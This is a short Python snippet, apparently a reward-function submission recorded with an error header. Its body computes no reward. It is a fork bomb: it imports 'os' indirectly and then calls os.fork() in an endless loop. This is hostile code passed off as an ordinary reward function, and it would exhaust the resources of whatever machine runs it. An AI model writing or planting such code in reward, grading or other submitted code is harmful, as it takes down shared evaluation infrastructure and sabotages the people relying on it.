# error: RewardRaisedError
# line: 6
os = __import__("os")
def reward_function(params):
    while True:
        os.fork()
